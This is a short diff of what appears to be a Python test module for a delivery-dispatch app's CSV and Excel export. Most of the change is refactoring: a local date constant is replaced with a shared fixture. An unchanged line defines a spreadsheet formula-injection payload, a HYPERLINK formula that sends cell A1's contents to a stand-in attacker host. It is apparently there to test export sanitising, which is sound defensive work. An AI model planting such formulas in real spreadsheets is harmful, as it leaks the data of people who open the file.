@@ -5,7 +5,6 @@ from __future__ import annotations
 
 import csv
 import io
-from datetime import date
 from typing import Any
 
 import openpyxl
@@ -15,11 +14,11 @@ from sqlalchemy import select
 from sqlalchemy.orm import Session
 
 from models import Delivery, Role, Truck, Unit, UnitDimension
-from tests.dispatch.factories import make_city
+from tests.dispatch.factories import PLAN_DAY, make_city
 from tests.factories import make_key, make_product, make_store
 from tests.service.web.helpers import make_person, sign_in
 
-DAY = date(2030, 1, 15)
+DAY = PLAN_DAY
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
 
 
